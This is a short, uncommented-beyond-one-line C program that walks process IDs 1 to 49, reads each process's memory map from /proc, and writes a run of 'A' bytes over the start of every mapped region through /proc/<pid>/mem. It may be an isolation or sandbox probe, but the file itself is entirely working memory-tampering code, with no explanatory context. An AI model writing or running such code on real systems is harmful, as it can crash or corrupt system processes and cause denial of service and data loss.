/* Writes into the memory of the processes above it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void)
{
    char path[64], line[256];
    unsigned long from;

    for (int pid = 1; pid < 50; pid++) {
        snprintf(path, sizeof path, "/proc/%d/maps", pid);
        FILE *maps = fopen(path, "r");
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        int mem = pid == getpid() ? -1 : open(path, O_WRONLY);
        while (maps && mem != -1 && fgets(line, sizeof line, maps))
            if (sscanf(line, "%lx", &from) == 1 &&
                pwrite(mem, "AAAAAAAAAAAAAAAA", 16, (off_t)from) == -1)
                continue;
    }
    return 1;
}
